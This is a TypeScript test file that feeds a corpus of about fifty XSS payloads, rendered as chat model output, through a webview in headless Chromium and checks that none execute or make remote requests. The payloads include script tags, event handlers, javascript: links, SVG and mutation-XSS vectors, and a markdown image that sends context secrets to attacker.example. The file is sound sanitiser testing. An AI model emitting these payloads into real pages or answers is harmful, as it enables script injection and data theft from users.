// An XSS corpus as model output, through the real webview bundle in headless Chromium (test/webview/support/harness.ts):
// script tags, event handlers, javascript:/data:/vbscript: links, SVG and MathML, markdown images pointing at remote
// URLs (exfiltration), HTML comments, broken and nested fences, CSS injection, mutation-XSS shapes. Each payload
// is its own answer, rendered whole and streamed in small deltas, without the CSP (the sanitiser alone) and with
// it. Nothing may run, no active element or attribute may survive, and no request may leave the page.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { assistant, startHarness, stateMsg, user, type Harness, type Panel } from '../webview/support/harness';

const X = 'https://attacker.example';
const CORPUS: Record<string, string> = {
  'script tag': '<script>window.__pwned="script"</script>',
  'script split by case': '<ScRiPt>window.__pwned="case"</sCrIpT>',
  'script src': `<script src="${X}/x.js"></script>`,
  'img onerror': '<img src=x onerror="window.__pwned=\'img\'">',
  'body onload': '<body onload="window.__pwned=\'body\'">',
  'autofocus onfocus': '<input autofocus onfocus="window.__pwned=\'focus\'">',
  'details ontoggle': '<details open ontoggle="window.__pwned=\'details\'"><summary>x</summary></details>',
  'javascript link': '[click](javascript:window.__pwned=\'js\')',
  'javascript link, entity-encoded': '[click](jav&#x09;ascript:window.__pwned=\'js-tab\')',
  'javascript link, reference': '[click][r]\n\n[r]: javascript:window.__pwned=\'ref\'',
  'javascript autolink': '<javascript:window.__pwned=\'auto\'>',
  'data html link': '[data](data:text/html,<script>window.__pwned=\'data\'</script>)',
  'vbscript link': '[vb](vbscript:msgbox(1))',
  'raw html anchor': `<a href="javascript:window.__pwned='a'">a</a> <a href="${X}/phish" target="_blank">b</a>`,
  'svg onload': '<svg onload="window.__pwned=\'svg\'"><circle r="5"/></svg>',
  'svg script': '<svg><script>window.__pwned="svgscript"</script></svg>',
  'svg use href': `<svg><use href="${X}/sprite.svg#x"/></svg>`,
  'svg animate': '<svg><a><animate attributeName="href" values="javascript:window.__pwned=1"/><text y="20">x</text></a></svg>',
  'math xlink': '<math><mi xlink:href="javascript:window.__pwned=1">m</mi></math>',
  'markdown image exfiltration': `![secret](${X}/collect?data=SECRET_FROM_CONTEXT)`,
  'markdown image, reference': `![pixel][p]\n\n[p]: ${X}/ref.png`,
  'markdown image, angle brackets': `![x](<${X}/angle.png>)`,
  'html img srcset': `<img srcset="${X}/a.png 1x, ${X}/b.png 2x">`,
  'picture source': `<picture><source srcset="${X}/p.webp"><img src="${X}/p.png"></picture>`,
  'iframe': `<iframe src="${X}/frame"></iframe>`,
  'iframe srcdoc': '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  'object and embed': `<object data="${X}/o.swf"></object><embed src="${X}/e.swf">`,
  'link stylesheet': `<link rel="stylesheet" href="${X}/evil.css">`,
  'meta refresh': `<meta http-equiv="refresh" content="0;url=${X}/">`,
  'base href': `<base href="${X}/">[relative](page)`,
  'form action': `<form action="${X}/steal"><button>Continue</button></form>`,
  'html comment hiding markup': '<!-- <img src=x onerror="window.__pwned=\'comment\'"> -->',
  'comment breakout': '<!--><img src=x onerror="window.__pwned=\'breakout\'">-->',
  'conditional comment': '<!--[if IE]><script>window.__pwned="ie"</script><![endif]-->',
  'broken fence': '```js\nconst a = 1;\n<img src=x onerror="window.__pwned=\'fence\'">',
  'fence info string': '```"><img src=x onerror="window.__pwned=\'info\'">\ncode\n```',
  'nested fences': '````\n```\n<script>window.__pwned="nested"</script>\n```\n````\n<script>window.__pwned="after"</script>',
  'tilde fence unclosed': '~~~\n<svg onload="window.__pwned=\'tilde\'">',
  'style tag': `<style>body{background:url(${X}/css.png)} *{display:none}</style>`,
  'style attribute': `<p style="background:url(${X}/attr.png);position:fixed;inset:0">overlay</p>`,
  'css import': `<style>@import url("${X}/import.css");</style>`,
  'font face': `<style>@font-face{font-family:x;src:url(${X}/f.woff)}</style>`,
  'noscript mxss': '<noscript><p title="</noscript><img src=x onerror=window.__pwned=\'mxss\'>">',
  'template mxss': '<template><script>window.__pwned="template"</script></template>',
  'textarea breakout': '<textarea></textarea><img src=x onerror="window.__pwned=\'textarea\'">',
  'unicode escaped tag': '\uff1cscript\uff1ewindow.__pwned="fullwidth"\uff1c/script\uff1e',
  'null byte in tag': '<scr\u0000ipt>window.__pwned="null"</script>',
  'entity encoded tag': '&lt;img src=x onerror="window.__pwned=\'entity\'"&gt;',
  'markdown link title': `[ok](https://example.com "a\\" onmouseover=\\"window.__pwned=1")`,
  'safe link control': '[docs](https://example.com/docs)',
};

let harness: Harness;
before(async () => { harness = await startHarness(); });
after(async () => { await harness?.close(); });

const ALLOWED_PATHS = new Set(['/panel.html', '/dist/webview.js', '/dist/webview.css', '/media/chat/chat.css', '/media/icons/chatglm.svg', '/theme.css', '/favicon.ico']);
/** The panel's own files: the above and the codicon font its bundled stylesheet names (dist/codicon-<hash>.ttf). */
const isPanelFile = (path: string) => ALLOWED_PATHS.has(path) || /^\/dist\/codicon-[A-Z0-9]+\.ttf$/.test(path);

async function inspectPanel(panel: Panel) {
  await panel.nextFrames(3);
  await panel.page.waitForTimeout(250); // let any (wrongly) created image, frame or stylesheet start loading
  return panel.page.evaluate(() => {
    // The rendered answers (the panel's own composer, a textarea, is not model output).
    const articles = Array.from(document.querySelectorAll('#root article[data-id]'));
    const within = (sel: string) => articles.flatMap((a) => Array.from(a.querySelectorAll(sel)));
    const active = within('script, img, picture, source, iframe, frame, object, embed, svg, math, style, link, meta, base, form, input, textarea, details, template, noscript, video, audio');
    const attrs: string[] = [];
    for (const el of within('*')) {
      for (const a of Array.from(el.attributes)) {
        if (/^on/i.test(a.name) || ['style', 'src', 'srcset', 'srcdoc', 'action', 'formaction', 'xlink:href', 'background', 'poster', 'data'].includes(a.name)) attrs.push(`${el.tagName}.${a.name}`);
      }
    }
    return {
      pwned: (window as unknown as { __pwned?: unknown }).__pwned ?? (document.defaultView as unknown as { __pwned?: unknown }).__pwned,
      articles: articles.length,
      active: active.map((e) => e.tagName),
      attrs,
      hrefs: within('[href]').map((a) => a.getAttribute('href') ?? ''),
      // Links keep their URL in data-href and navigate nothing: the host opens them (links.ts).
      links: within('a[data-href]').map((a) => a.getAttribute('data-href') ?? ''),
      headExtras: Array.from(document.head.querySelectorAll('link, style, base, meta[http-equiv="refresh"]')).map((e) => e.outerHTML).filter((h) => !/theme\.css|vscode-default-styles\.css|chat\.css|webview\.css|Content-Security-Policy/.test(h)),
      bodyLength: articles.reduce((n, a) => n + (a.textContent?.length ?? 0), 0),
    };
  });
}

describe('XSS corpus in model output', { timeout: 300_000 }, () => {
  for (const csp of [false, true]) {
    it(`${Object.keys(CORPUS).length} payloads stay inert and request nothing remote, whole and streamed (${csp ? 'with' : 'without'} CSP)`, async () => {
      const panel = await harness.open({ csp });
      harness.requests.length = 0;
      const names = Object.keys(CORPUS);
      // Whole: every payload as a complete answer of its own.
      const messages = names.flatMap((name, i) => [user(`u${i}`, `payload ${i}`), assistant(`a${i}`, CORPUS[name]!)]);
      await panel.send(stateMsg(messages));
      const report = await inspectPanel(panel);
      // Streamed: the whole corpus into one answer in 7-character deltas (tags and fences split mid-way).
      const all = names.map((n) => CORPUS[n]).join('\n\n');
      await panel.send(stateMsg([user('u0', 'stream it'), assistant('s1', '', 'streaming')]));
      for (let i = 0; i < all.length; i += 7) {
        await panel.send({ type: 'delta', conversationId: 'c1', messageId: 's1', text: all.slice(i, i + 7) });
        if (i % 700 === 0) await panel.nextFrames(1);
      }
      const streamed = await inspectPanel(panel);
      await panel.send({ type: 'messageDone', conversationId: 'c1', messageId: 's1', status: 'complete', finishReason: 'stop' });
      const done = await inspectPanel(panel);
      for (const [phase, r] of [['whole', report], ['streaming', streamed], ['done', done]] as const) {
        assert.equal(r.pwned, undefined, `${phase}: no script ran`);
        assert.deepEqual(r.active, [], `${phase}: no active element survived`);
        assert.deepEqual(r.attrs, [], `${phase}: no handler, style or resource attribute survived`);
        assert.deepEqual(r.headExtras, [], `${phase}: nothing was added to <head>`);
        assert.deepEqual(r.hrefs, [], `${phase}: no element of an answer carries an href`);
        for (const link of r.links) assert.match(link, /^(https?:|mailto:)/i, `${phase}: unsafe link ${link}`);
        assert.ok(r.articles > 0 && r.bodyLength > 0, `${phase}: the answers are shown`);
      }
      // In the whole rendering each payload is its own answer, so an unclosed fence cannot swallow the control.
      assert.ok(report.links.includes('https://example.com/docs'), 'the safe control link survives');
      // Clicking every link runs nothing.
      for (const a of await panel.page.locator('#root a').all()) await a.click({ modifiers: [], timeout: 2_000 }).catch(() => undefined);
      assert.equal(await panel.page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned), undefined, 'clicking links runs nothing');
      const remote = harness.requests.filter((u) => !u.startsWith(harness.origin) || !isPanelFile(new URL(u).pathname));
      assert.deepEqual(remote, [], 'no request left the page (images, styles, frames, fonts)');
      if (csp) assert.deepEqual(await panel.cspViolations(), [], 'the sanitiser left nothing for the CSP to block');
      assert.deepEqual(panel.errors, [], 'no page errors');
      // The detectors themselves work: a remote image created by test code is seen (as a request, or as a CSP block).
      await panel.page.evaluate((url) => { const i = document.createElement('img'); i.src = url; document.body.append(i); }, `${X}/canary.png`);
      await panel.page.waitForTimeout(300);
      if (csp) assert.ok((await panel.cspViolations()).some((v) => v.includes('canary')), 'the canary was blocked by the CSP');
      else assert.ok(harness.requests.some((u) => u.includes('canary')), 'the canary request was recorded');
      console.log(`xss (${csp ? "CSP" : "no CSP"}): ${names.length} payloads, ${all.length} chars streamed, ${remote.length} remote requests from model output`);
      await panel.page.close();
    });
  }
});
